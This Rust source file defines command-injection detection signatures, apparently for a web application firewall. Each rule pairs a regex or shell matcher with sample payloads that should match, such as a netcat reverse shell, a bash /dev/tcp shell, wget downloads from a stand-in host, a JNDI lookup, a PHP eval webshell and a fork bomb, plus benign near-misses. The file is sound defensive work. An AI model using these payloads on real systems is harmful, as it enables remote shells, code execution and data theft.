//! Command injection, and code injection whose aim is a command.

use super::{Matcher::Regex, Matcher::Shell, signatures};
use crate::rule::Sample::Value;
use crate::shell::ShellShape;

signatures! {
    CMDI, Cmdi, attack: &["T1059", "T1190"], owasp: Some("A05:2025");

    "wp.cmdi.separator" v 2, "Separator and a command", Critical 90, NotPlainAgent, gate &[], Shell(ShellShape::Separated),
        fires [Value(";id"), Value("x | cat /etc/issue"), Value("a && wget http://x.example/s.sh"), Value("127.0.0.1;nc -e /bin/sh 10.0.0.1 4444"), Value("|getent hosts x.example"), Value("`whoami`"), Value("$(uname -a)")],
        near [Value("salt & pepper; find your taste"), Value("this | that; who knows what it is"), Value("Tom & sort of Jerry"), Value("first; then more words follow")];
    "wp.cmdi.substitution" v 1, "Command or expression substitution", High 82, Any, gate &["$(", "${", "`", "$ifs", "$'", "$\"", "$\\", "<(", "$["],
        Regex(r#"\$\{?ifs\b|^\s*`[^`]{2,120}`\s*$|^\s*\$\([^)]{2,200}\)?\s*$|\$\(\(?\s*(?:cat|ls|id|curl|wget|nslookup|ping|sleep|echo|whoami|uname|expr|bash|sh)\b|\$\((?:<|\()\s*[/\w]|\$\{(?:jndi|env|sys|java|lower|upper|date|main|bundle|ctx|::-|\w{1,10}:[-\w]{0,10})[:}]|\$\{[^}]{0,60}(?:runtime|processbuilder|getclass|forname|exec\s*\()|(?:=|:)`[^`]{2,80}`\s*$|\$\{\w*[#@%/^,:][^}]{0,30}\}[\s\w/]|\$'\\x?[0-9a-f]|/\$\{?\w{0,20}\}?\w*/|=\s*\$\\?['"][^'"]{0,80}['"]\s*;"#),
        fires [Value("$(id)"), Value("`uname -a`"), Value("cat${IFS}/x"), Value("${jndi:ldap://x.example/a}")],
        near [Value("costs $ (five)"), Value("the `name` field of `user` is set"), Value("template ${name} here")];
    "wp.cmdi.shell" v 1, "Shell or system program by its path", Critical 90, Any, gate &["bin/", "cmd", "powershell", "/dev/tcp", "sh -", "() {", "(){", "/bin", "system32", "() ", "$shell", "${shell"],
        Regex(r#"(?:^|[\s;|&`'"(=<>,:{])/+(?:usr/+)?(?:local/+)?s?bin/+(?:\w{0,3}sh\b|cat|ls|id|nc|ncat|netcat|ping|wget|curl|python|perl|ruby|php|whoami|uname|sleep|echo|kill|chmod|rm|tail|head|less|more|nmap|env|telnet|ps|\?|\*|who|mail|printenv|ifconfig|getent|tftp|xterm)|/[?*\w\[]*[?*][?*\w]*/[\w?*\[]*[?*]|\bcmd(?:\.exe)?\s*(?:\+|\s)*/{1,2}[ckr]\b|\bcmd\.exe\b|\b(?:powershell|pwsh)(?:\.exe)?\s+-|/dev/(?:tcp|udp)/|\$\{?SHELL\}?\s+-\w|\(\)\s*\{\s*[:_\w\s]*;?\s*\}?\s*;|\bnc(?:at)?\s+(?:-\w+\s+)*-[ecl]\w*\b|\b(?:bash|sh)\s+-[ci]\b|\bsystem32[\\/]\w+\.exe"#),
        fires [Value("/bin/sh -c x"), Value("cmd.exe /c dir"), Value("() { :;}; echo x"), Value("bash -i >& /dev/tcp/10.0.0.1/1")],
        near [Value("the cabin/shed door"), Value("cmd key"), Value("/binary/share")];
    "wp.cmdi.command" v 2, "A whole command line as a value", High 80, NotPlainAgent, gate &[], Shell(ShellShape::Line),
        fires [Value("cat /etc/issue"), Value("wget http://x.example/a.sh"), Value("ipconfig /all"), Value("ping -c 10 127.0.0.1"), Value("net user")],
        near [Value("cat and dog"), Value("curl your hair"), Value("ping me later"), Value("net income")];
    "wp.cmdi.batch" v 1, "Statement of a Windows command script", High 80, NotPlainAgent, gate &[], Shell(ShellShape::Batch),
        fires [Value("for %i in (*) do del %i"), Value("if exist c:\\boot.ini echo yes"), Value("& if \"%x%\"==\"1\" goto end")],
        near [Value("if it exists we use it"), Value("for the record (and more)"), Value("if a == b {")];
    "wp.cmdi.pattern" v 1, "Program or secret named by wild cards or braces", High 88, NotPlainAgent, gate &[], Shell(ShellShape::Pattern),
        fires [Value("/b?n/c?t /e*c/h?sts"), Value("/etc/pass[w]d"), Value("{cat,/etc/issue}")],
        near [Value("/images/*.png"), Value("{id,name}"), Value("a[0] / b[1]")];
    "wp.cmdi.indirect" v 1, "Command put together from variables or functions", High 88, NotPlainAgent, gate &[], Shell(ShellShape::Indirect),
        fires [Value("a=nc;$a -lvp 4444"), Value("f(){ f|f& };f"), Value("x=/etc&&y=cat&&$y $x/issue")],
        near [Value("price=5;$10 off"), Value("f() { return 1 }"), Value("a=b;c=d")];
    "wp.cmdi.mail" v 1, "Command of a mail protocol behind a line break", High 85, NotPlainAgent, gate &[], Shell(ShellShape::Mail),
        fires [Value("x\r\nRCPT TO:<a@x.example>"), Value("x\r\nA1 LOGIN a b"), Value("x\r\nRETR 12")],
        near [Value("x\r\nmail from home"), Value("a list\r\nlist of three"), Value("top\r\nto bottom")];
    "wp.cmdi.pipe" v 1, "Download or page that is run", High 82, Any,
        gate &["|", "wget", "curl", "<!--#", "nslookup"],
        Regex(r#"<!--#exec\s|\bnslookup\s+[\w.$()`-]+\.\w{2,}|\b(?:wget|curl)\s+(?:-{1,2}[a-z]\S*\s+)+\S+[./]|\|\s*(?:ba|da|z)?sh\b\s*$"#),
        fires [Value("<!--#exec cmd=\"x\"-->"), Value("x wget -q -O /tmp/a http://x.example/a"), Value("echo aWQ= | sh")],
        near [Value("curl your hair"), Value("wget is a tool"), Value("a | shell")];
    "wp.cmdi.php" v 1, "PHP code", High 85, Any,
        gate &["<?", "phpinfo", "passthru", "shell_exec", "proc_open", "popen", "system", "eval", "assert", "base64_decode", "$_", "exec", "file_get_contents", "fopen", "include", "require", "preg_replace", "create_function", "call_user_func", "php", "var_dump", "print_r", "chr(", "die(", "o:", "allow_url", "auto_prepend", "ini_set", "array_", "globals", "gzinflate", "unserialize"],
        Regex(r#"<\?(?:php\b|=|\s*(?:echo|print|system|exec|eval|phpinfo|@?\w+\s*\())|<\?\s*$|\b(?:phpinfo|passthru|shell_exec|proc_open|popen|pcntl_exec|create_function|call_user_func(?:_array)?|base64_decode|gzinflate|gzuncompress|str_rot13|file_get_contents|file_put_contents|readfile|fsockopen|move_uploaded_file|array_(?:map|filter|diff_ukey|walk|udiff)|register_shutdown_function|show_source|highlight_file|unserialize|preg_replace_callback|ini_set|posix_\w+|opcache_\w+|parse_ini_file|escapeshell\w+|apache_setenv|putenv|proc_nice|symlink|move_uploaded|uasort|usort)\s*(?:/\*.*?\*/|//[^\n]*\n|\#[^\n]*\n|\s)*\(\s*[)'"$@\w\\]|\b(?:system|exec|eval|assert|include|require(?:_once)?|include_once|die|exit|print|echo|var_dump|print_r|fopen|unlink|opendir|popen|extract|implode)\s*(?:/\*.*?\*/|\s)*[('"]\s*\(?\s*(?:\$_(?:get|post|request|cookie|server|files|session|env)|\$\w+\s*[\[(]|['"](?:cat|ls|id|whoami|uname|dir|ping|wget|curl|nc|sleep|echo|pwd|/|\w+:\/\/)|base64_decode|phpinfo|chr\s*\()|\$_(?:get|post|request|cookie|server|files|env|session)\s*\[|\$GLOBALS\s*\[|\$\{?_(?:get|post|request)|\b[oc]:\d+:"\w|\ballow_url_(?:include|fopen)\s*=|auto_(?:prepend|append)_file\s*=|\(\s*['"]?(?:system|exec|passthru|phpinfo|shell_exec|assert|p\.h\.p)['"]?\s*\)\s*\(|\$\w+\s*=\s*['"]?(?:system|exec|passthru|shell_exec|phpinfo|assert)\b|\(['"]sys['"]\s*\.|\bchr\s*\(\s*\d+\s*\)\s*\.|\b(?:system|exec|shell_exec|passthru|popen)\s*\(\s*['"]?[\w/ .-]{2,}['"]?\s*\)\s*;"#),
        fires [Value("<?php eval($_POST['c']);"), Value("phpinfo()"), Value("system('id');"), Value("shell_exec(\"ls\")")],
        near [Value("the system (new) works"), Value("exec summary"), Value("require(d) fields"), Value("PHP developer wanted")];
    "wp.cmdi.runtime" v 1, "Code of a runtime that starts programs", Critical 88, Any,
        gate &["runtime", "processbuilder", "__import__", "child_process", "os.system", "os.popen", "subprocess", "jndi", "java.", "javax.", "%{", "#{", "{{", "<%", "class.", "__class__", "__globals__", "__proto__", "prototype", "require(", "getclass", "ognl", "_memberaccess", "kernel.", "open3", "io.popen", "t(java", "${", "ro0ab", "aced0005", "freemarker", "process.", "org.apache", "yaml", "!!", "eval(", "exec("],
        Regex(r#"\bruntime\s*(?:\.|\(\)|\]|\))[\s.]*(?:getruntime|exec)|\bgetruntime\s*\(|\bprocess_?builder\b\s*[(\W]|__import__\s*\(|\bchild_process\b|\bos\s*\.\s*(?:system|popen|exec\w*|spawn\w*)\s*\(|\bsubprocess\s*\.\s*(?:popen|call|run|check_output)\s*\(|\$\{[^}]{0,40}j[^}]{0,30}n[^}]{0,30}d[^}]{0,30}i\b|\bjndi\s*:\s*(?:ldaps?|rmi|dns|iiop|nis|corba|nds|https?)\b|\bjava\.(?:lang|io|util|net|security|beans|naming)\.\w+|\bjavax\.(?:naming|script|el|swing|management)\.|\bcom\.(?:sun|opensymphony|mchange|ibm)\.\w+\.\w|\bcom\.sun\.org|\borg\.apache\.commons\b|\borg\.(?:apache|codehaus|springframework|hibernate|mozilla\.javascript|omg|jboss|python|jruby|aspectj|quartz|mvel|wicketstuff|beanshell)\.\w+\.\w|(?:%|\#|\$)\{\s*\(?\s*[#'"@(]|(?:%|\#|\$|\*)\{\s*\(?\s*(?:\d+\s*[*+-]\s*\d+|new\s+\w|t\s*\(|self\b|class\b|request\b|config\b|facescontext|this\.|system\b|`)|\bclass\s*(?:\.|\[\s*['"])\s*(?:module|classloader|protectiondomain)|__(?:class|globals|builtins|subclasses|mro|init|base|import|dict|code)__|\b__proto__\b|\bconstructor\s*(?:\.|\[['"])\s*prototype|\bgetclass\s*\(\s*\)\s*\.|_memberaccess\b|@java\.|\bt\s*\(\s*java\.|\b(?:kernel|open3|io)\s*\.\s*(?:system|popen\w*|exec|capture\w*)|\bro0ab[\w+/]{2}|\baced0005|\bfreemarker\.template|\bprocess\s*\.\s*(?:mainmodule|binding|env\b\s*[.\[]|spawn)|\{\{\s*(?:\d+\s*[*+]\s*['"]?\d+|config\b|self\b|request\s*[.|\[]|[\w'"()\[\]]+\s*\.\s*(?:constructor|__)|['"][^}]*\||_self\b|cycler|lipsum|joiner|namespace|url_for|get_flashed|\[\s*['"]?\w*['"]?\s*\]|this\b|range\.|php\}|app\b|dump|\$\w+\.)|<%\s*=?\s*(?:\d+\s*\*|`|system|exec|import|file\.|dir\.|eval|request|response|new\s|runtime|open|io\.)|!!(?:python|javax|java|ruby|org|com)[/.:]|\bfunction\s*\(\s*\)\s*\{[^}]{0,80}(?:require|process|exec)"#),
        fires [Value("${jndi:ldap://x.example/a}"), Value("__import__('os').system('id')"), Value("require('child_process').exec('id')"), Value("java.lang.Runtime.getRuntime().exec('id')"), Value("{{7*7}}")],
        near [Value("the runtime of the process"), Value("Java language basics"), Value("use {{name}} as placeholder"), Value("a class module")];
}
